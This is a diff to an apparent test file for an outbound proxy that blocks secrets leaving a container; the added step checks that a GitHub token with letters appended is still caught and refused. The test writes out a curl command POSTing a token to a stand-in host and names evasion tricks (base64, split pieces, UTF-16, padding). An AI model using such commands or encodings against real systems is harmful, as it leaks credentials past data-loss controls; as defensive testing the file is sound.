@@ -93,7 +93,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     );
 
     await t.step(
-      "every allowed HTTPS host is intercepted: a secret POSTed to one that is not a route (in base64, in base64 pieces across the query, in base64 of UTF-16) is refused and logged, events and downloads still stream",
+      "every allowed HTTPS host is intercepted: a secret POSTed to one that is not a route (in base64, in base64 pieces across the query, in base64 of UTF-16, with letters glued on) is refused and logged, events and downloads still stream",
       async () => {
         const encoded = btoa(`ci token ${token}`);
         const r = await sh(
@@ -128,6 +128,13 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
           !(await reached("/v1/pieces")) && !(await reached("/v1/ps")),
           "nothing reached the host",
         );
+        // Letters glued onto its end, for whoever receives it to take off again.
+        const glued = await sh(
+          `curl -sS -o /tmp/refused -w '%{http_code}' --data-binary '${token}Zq9' ` +
+            "https://plain.fake.test/v1/glued; echo; cat /tmp/refused",
+        );
+        assert.match(glued.stdout, /^403\n.*GitHub token \(rule github-token\) in the body/);
+        assert.ok(!(await reached("/v1/glued")), "nothing reached the host");
 
         const drip = await sh(
           'curl -sSN https://plain.fake.test/drip | while read -r line; do if [ -n "$line" ]; then echo "$(date +%s%N) $line"; fi; done',
